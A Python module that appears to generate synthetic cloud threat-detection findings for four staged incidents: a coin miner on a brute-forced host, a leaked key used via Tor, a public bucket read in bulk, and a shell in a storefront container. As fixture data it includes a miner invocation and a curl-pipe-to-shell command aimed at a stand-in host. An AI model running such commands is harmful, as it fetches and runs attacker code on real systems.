"""Owns the incidents: a mining host, a leaked key, an opened bucket, a shell in the shop."""

from .dice import Dice
from .document import HOUR, MINUTE, NOW
from .estate import BUCKET, CORE, IE, OFFICES, PAY, SANDBOX, SCANNERS, TOR, VA, WEB, hosts
from .threat import (
    CRITICAL,
    HIGH,
    LOW,
    MEDIUM,
    access_key,
    attack,
    bucket,
    call,
    cluster,
    container,
    endpoint,
    flow,
    lookup,
    process,
    signal,
    threat,
)


def mining():
    """A notebook host with SSH open to everyone was guessed open and mines coins."""
    host, place = hosts("gpu-notebook")[0], (SANDBOX, VA)
    dice = Dice("mining")
    pool = "stratum.mx7.coinpool.example"
    shell = ("/tmp/.X11-unix/.r/up.sh", "/usr/bin/bash", "/usr/sbin/sshd")
    began = 19 * HOUR
    return [
        threat(
            "gpu",
            "CryptoCurrency:EC2/BitcoinTool.B!DNS",
            HIGH,
            place,
            f"Instance {host.uid} looks up a domain used by coin miners.",
            f"{host.name} asked for {pool} 412 times. The name belongs to a mining pool.",
            [host.for_threat()],
            [lookup(pool)],
            created=began,
            modified=34 * MINUTE,
            count=412,
            tags=["fire"],
        ),
        threat(
            "gpu",
            "CryptoCurrency:Runtime/BitcoinTool.B",
            HIGH,
            place,
            f"A process on {host.uid} talks to a mining pool.",
            "The process /tmp/.X11-unix/.r/kdevtmpfsi keeps a connection to a mining pool open. It was started by a script that arrived over SSH.",
            [host.for_threat()],
            [
                process(
                    dice,
                    "/tmp/.X11-unix/.r/kdevtmpfsi",
                    f"./kdevtmpfsi -o {pool}:3333 -u 44x9 --donate-level 0 --threads 8",
                    "ubuntu",
                    shell,
                    NOW - began - 9 * MINUTE - 3_917,
                ),
                flow(host, SCANNERS[0], local=48112, remote=3333, inbound=False),
            ],
            created=began - 4 * MINUTE,
            modified=41 * MINUTE,
            count=96,
            attacks=[attack("Impact", "TA0040", "Resource Hijacking", "T1496")],
            tags=["fire"],
        ),
        threat(
            "gpu",
            "Execution:Runtime/NewBinaryExecuted",
            MEDIUM,
            place,
            f"A new binary was run on {host.uid}.",
            "kdevtmpfsi was written to /tmp and run within the same minute.",
            [host.for_threat()],
            [
                process(
                    dice, "/tmp/.X11-unix/.r/kdevtmpfsi", "./kdevtmpfsi -c config.json", "ubuntu", shell, NOW - began - 9 * MINUTE - 3_917
                )
            ],
            created=began + 3 * MINUTE,
            modified=began - 30 * MINUTE,
            count=2,
        ),
        threat(
            "gpu",
            "UnauthorizedAccess:EC2/SSHBruteForce",
            LOW,
            place,
            f"{SCANNERS[0][0]} guesses SSH passwords of {host.uid}.",
            f"More than 9,000 failed logins from {SCANNERS[0][0]}, then one session of 41 seconds.",
            [host.for_threat()],
            [flow(host, SCANNERS[0], local=22, remote=51834, inbound=True)],
            created=26 * HOUR,
            modified=began + 20 * MINUTE,
            count=31,
        ),
        threat(
            "gpu",
            "Backdoor:EC2/C&CActivity.B!DNS",
            HIGH,
            place,
            f"Instance {host.uid} looks up a domain of a command and control server.",
            "The name resolves to a server known to hand out tasks to compromised hosts.",
            [host.for_threat()],
            [lookup("cdn-update.kinsing-c2.example")],
            created=began - 10 * MINUTE,
            modified=52 * MINUTE,
            count=58,
            tags=["fire"],
        ),
    ]


def leaked_key():
    """A deploy user's key, never rotated, is used through Tor."""
    place, user = (CORE, VA), "svc-deploy-legacy"
    key = access_key(CORE, VA, user)
    key_id, agent = key["uid"], "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-kali3-amd64"

    def tor(operation, service, error=None):
        return call(operation, service, TOR[0], user, key_id=key_id, error=error, agent=agent)

    signals = [
        signal("UnauthorizedAccess:IAMUser/TorIPCaller", place, "deploy-key", "Calls from a Tor exit"),
        signal("Recon:IAMUser/TorIPCaller", place, "deploy-key", "Listing from a Tor exit"),
        signal("Persistence:IAMUser/AnomalousBehavior", place, "deploy-key", "A second access key was made"),
        signal("Stealth:IAMUser/CloudTrailLoggingDisabled", place, "deploy-key", "A trail was stopped"),
    ]
    traits = [
        {"name": "HIGH_RISK_API", "values": ["iam:CreateAccessKey", "cloudtrail:StopLogging", "secretsmanager:GetSecretValue"]},
        {"name": "TOR_IP", "values": [TOR[0][0], TOR[1][0]]},
        {"name": "UNUSUAL_ASN_FOR_USER", "values": [str(TOR[0][3])]},
    ]
    return [
        threat(
            "deploy-key",
            "AttackSequence:IAM/CompromisedCredentials",
            CRITICAL,
            place,
            f"Credentials of {user} are being misused, by a sequence of 4 signals.",
            f"Within 47 minutes the access key of {user} was used through Tor to list users and buckets, to make a second access key, to read secrets and to stop a trail.",
            [key],
            [
                tor("CreateAccessKey", "iam"),
                tor("StopLogging", "cloudtrail"),
                tor("GetSecretValue", "secretsmanager", "AccessDenied"),
                {"src_endpoint": endpoint(TOR[1])},
            ],
            created=7 * HOUR,
            modified=3 * HOUR + 12 * MINUTE,
            count=4,
            attacks=[
                attack("Persistence", "TA0003", "Account Manipulation: Additional Cloud Credentials", "T1098.001"),
                attack("Defense Evasion", "TA0005", "Impair Defenses: Disable or Modify Cloud Logs", "T1562.008"),
            ],
            traits=traits,
            related=signals,
            rule=False,
            tags=["fire"],
        ),
        threat(
            "deploy-key",
            "UnauthorizedAccess:IAMUser/TorIPCaller",
            MEDIUM,
            place,
            f"API calls of {user} came from a Tor exit node.",
            f"The access key {key_id} was used from {TOR[0][0]}, an exit node of the Tor network. The user has not been seen outside the build network in 14 months.",
            [key],
            [tor("GetCallerIdentity", "sts"), tor("ListUsers", "iam")],
            created=8 * HOUR,
            modified=3 * HOUR + 40 * MINUTE,
            count=64,
            tags=["fire"],
        ),
        threat(
            "deploy-key",
            "Recon:IAMUser/TorIPCaller",
            MEDIUM,
            place,
            f"{user} listed resources from a Tor exit node.",
            "ListUsers, ListRoles, ListBuckets and DescribeInstances in four Regions within three minutes.",
            [key],
            [tor("ListRoles", "iam"), tor("DescribeInstances", "ec2", "UnauthorizedOperation")],
            created=8 * HOUR - 3 * MINUTE,
            modified=5 * HOUR,
            count=29,
        ),
        threat(
            "deploy-key",
            "Discovery:S3/TorIPCaller",
            MEDIUM,
            place,
            f"{user} listed buckets from a Tor exit node.",
            "ListBuckets, then GetBucketAcl on every bucket of the account.",
            [key, BUCKET["core-artifacts-ie"].entry()],
            [tor("ListBuckets", "s3"), tor("GetBucketAcl", "s3")],
            created=8 * HOUR - 5 * MINUTE,
            modified=5 * HOUR + 2 * MINUTE,
            count=11,
        ),
        threat(
            "deploy-key",
            "Persistence:IAMUser/AnomalousBehavior",
            MEDIUM,
            place,
            f"{user} made an access key, which it never did before.",
            "CreateAccessKey for svc-deploy-legacy-2 from a network that this user never used.",
            [key],
            [tor("CreateAccessKey", "iam")],
            created=7 * HOUR + 20 * MINUTE,
            modified=7 * HOUR + 20 * MINUTE,
            rule=False,
        ),
        threat(
            "deploy-key",
            "Stealth:IAMUser/CloudTrailLoggingDisabled",
            LOW,
            place,
            "Logging of the trail core-regional was stopped.",
            f"{user} called StopLogging on core-regional. The organisation's own trail was not touched.",
            [key],
            [tor("StopLogging", "cloudtrail")],
            created=6 * HOUR + 50 * MINUTE,
            modified=6 * HOUR + 50 * MINUTE,
            tags=["trail"],
        ),
        threat(
            "deploy-key",
            "CredentialAccess:IAMUser/AnomalousBehavior",
            MEDIUM,
            place,
            f"{user} tried to read secrets in an unusual way.",
            "GetSecretValue on 23 secrets, 21 of them denied.",
            [key],
            [tor("GetSecretValue", "secretsmanager", "AccessDenied"), tor("GetSecretValue", "secretsmanager")],
            created=6 * HOUR + 58 * MINUTE,
            modified=6 * HOUR + 30 * MINUTE,
            count=23,
            rule=False,
        ),
    ]


def open_bucket():
    """The settlement exports can be read by anyone, and someone does."""
    name, place = "payments-prod-settlement-exports", (PAY, IE)
    entry = bucket(name, "PUBLIC")
    role = access_key(PAY, IE, "payments-ops", "AssumedRole")
    return [
        threat(
            "settlement",
            "Policy:S3/BucketAnonymousAccessGranted",
            HIGH,
            place,
            f"Anyone on the internet may now read {name}.",
            "PutBucketPolicy added a statement that lets every principal call s3:GetObject. It replaced a policy that named one partner account.",
            [entry, role],
            [call("PutBucketPolicy", "s3", OFFICES[0], "payments-ops", "AssumedRole", agent="aws-cli/2.31.9 Python/3.13.7 Darwin/25.1.0")],
            created=11 * HOUR,
            modified=11 * HOUR,
            tags=["fire"],
        ),
        threat(
            "settlement",
            "Exfiltration:S3/AnomalousBehavior",
            HIGH,
            place,
            f"Objects of {name} were read in an unusual way.",
            "GetObject on 1,184 objects (6.1 GB) by an unauthenticated caller within 22 minutes.",
            [entry],
            [call("GetObject", "s3", SCANNERS[2], "anonymous", "Anonymous", agent="python-requests/2.32.5")],
            created=5 * HOUR + 26 * MINUTE,
            modified=76 * MINUTE,
            count=1184,
            rule=False,
            tags=["fire"],
        ),
        threat(
            "settlement",
            "AttackSequence:S3/CompromisedData",
            CRITICAL,
            place,
            f"Data in {name} may be in the wrong hands, by a sequence of 3 signals.",
            "The public access switches went off, the policy let everyone in, and the objects were read in bulk from a network never seen before.",
            [entry, role],
            [
                call("ListObjects", "s3", SCANNERS[2], "anonymous", "Anonymous"),
                call("GetObject", "s3", SCANNERS[2], "anonymous", "Anonymous"),
            ],
            created=5 * HOUR,
            modified=70 * MINUTE,
            count=3,
            attacks=[
                attack("Exfiltration", "TA0010", "Exfiltration Over Web Service", "T1567"),
                attack("Collection", "TA0009", "Data from Cloud Storage", "T1530"),
            ],
            traits=[{"name": "UNUSUAL_API_FOR_BUCKET", "values": ["s3:ListBucket"]}],
            related=[
                signal("Policy:S3/BucketBlockPublicAccessDisabled", place, name, "The switches were turned off"),
                signal("Policy:S3/BucketAnonymousAccessGranted", place, "settlement", "The bucket was opened"),
                signal("Exfiltration:S3/AnomalousBehavior", place, "settlement", "Bulk read"),
            ],
            rule=False,
            tags=["fire"],
        ),
    ]


def shop_shell():
    """The storefront's server components answered a crafted request with a shell."""
    place, dice = (WEB, VA), Dice("shop")
    kube, pod = cluster(WEB, VA, "eks-storefront"), container(
        "666677778888.dkr.ecr.us-east-1.amazonaws.com/storefront/web:r815", "storefront-web"
    )
    node = ("/usr/local/bin/node", "/usr/bin/containerd-shim-runc-v2")
    command = "sh -c 'curl -fsSL http://203.0.113.40:8080/s | sh'"
    signals = [
        signal("Execution:Runtime/ReverseShell", place, "shop", "A shell was handed out"),
        signal("Backdoor:Runtime/C&CActivity.B!DNS", place, "shop", "Command and control lookup"),
        signal("Execution:Runtime/SuspiciousCommand", place, "shop", "A downloaded script was run"),
    ]
    return [
        threat(
            "shop",
            "Execution:Runtime/ReverseShell",
            HIGH,
            place,
            "A process in a container of eks-storefront handed out a shell.",
            "node started sh with its input and output tied to a connection to 203.0.113.40:4443.",
            [kube, pod],
            [
                process(dice, "/bin/sh", "sh -i", "node", node, NOW - 4 * HOUR - 9 * MINUTE - 21_480),
                {"dst_endpoint": endpoint(SCANNERS[1], 4443)},
            ],
            created=4 * HOUR,
            modified=95 * MINUTE,
            count=3,
            attacks=[attack("Execution", "TA0002", "Command and Scripting Interpreter: Unix Shell", "T1059.004")],
            tags=["fire"],
            version="1.6.0",
        ),
        threat(
            "shop",
            "Backdoor:Runtime/C&CActivity.B!DNS",
            HIGH,
            place,
            "A container of eks-storefront looks up a command and control domain.",
            "storefront-web asked for a name that was registered nine days ago and is on a threat list.",
            [kube, pod],
            [
                lookup("api.telemetry-sync.example"),
                process(dice, "/tmp/.cache/agent", "/tmp/.cache/agent -d", "node", node, NOW - 4 * HOUR - 9 * MINUTE - 21_480),
            ],
            created=4 * HOUR - 9 * MINUTE,
            modified=88 * MINUTE,
            count=17,
        ),
        threat(
            "shop",
            "Execution:Runtime/SuspiciousCommand",
            MEDIUM,
            place,
            "A suspicious command ran in a container of eks-storefront.",
            "A script was fetched over plain HTTP and piped into a shell.",
            [kube, pod],
            [process(dice, "/bin/sh", command, "node", node, NOW - 4 * HOUR - 9 * MINUTE - 21_480)],
            created=4 * HOUR + 6 * MINUTE,
            modified=4 * HOUR,
            count=1,
        ),
        threat(
            "shop",
            "AttackSequence:EKS/CompromisedCluster",
            CRITICAL,
            place,
            "Cluster eks-storefront may be compromised, by a sequence of 3 signals.",
            "A web request led to a shell, a downloaded program and contact to a command and control server from the same container.",
            [kube, pod],
            [process(dice, "/bin/sh", "sh -i", "node", node, NOW - 4 * HOUR - 9 * MINUTE - 21_480), lookup("api.telemetry-sync.example")],
            created=3 * HOUR + 30 * MINUTE,
            modified=62 * MINUTE,
            count=3,
            attacks=[
                attack("Initial Access", "TA0001", "Exploit Public-Facing Application", "T1190"),
                attack("Command and Control", "TA0011", "Application Layer Protocol: DNS", "T1071.004"),
            ],
            traits=[{"name": "MALICIOUS_DOMAIN", "values": ["api.telemetry-sync.example"]}],
            related=signals,
            rule=False,
            tags=["fire"],
            version="1.8.0",
        ),
    ]
